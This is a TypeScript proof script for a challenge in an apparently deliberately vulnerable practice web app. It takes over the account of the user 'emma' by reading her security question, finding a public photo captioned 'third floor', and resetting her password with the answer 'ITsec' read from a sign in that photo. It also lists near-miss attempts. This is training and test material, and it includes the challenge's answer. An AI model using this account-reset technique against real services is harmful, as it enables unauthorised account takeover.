import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

/** Resets the password of an account with the answer to its security question. */
const reset = (attacker: Attacker, name: string, answer: string) =>
  resetPassword(attacker, `${name}@${attacker.domain}`, answer)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const email = encodeURIComponent(`emma@${attacker.domain}`)
    const { question } = (await attacker.get(`/rest/user/security-question?email=${email}`)).json()
    const { data } = (await attacker.get('/rest/memories')).json() as { data: { caption: string }[] }
    const photo = data.find(({ caption }) => /third floor/.test(caption))
    if (!question || !photo) throw new Error('Emma has no security question or no photo.')
    // Text on the sign in the picture.
    await reset(attacker, 'emma', 'ITsec')
  },
  nearMisses: {
    'the right employer of somebody else': (attacker) => reset(attacker, 'stan', 'ITsec'),
    'the name in other letters': (attacker) => reset(attacker, 'emma', 'itsec'),
    'the floor instead of the sign': (attacker) => reset(attacker, 'emma', 'third floor'),
    "another customer's secret": (attacker) => reset(attacker, 'emma', 'Daniel Boone National Forest'),
    'the question alone': (attacker) => attacker.get(`/rest/user/security-question?email=emma@${attacker.domain}`),
  },
})
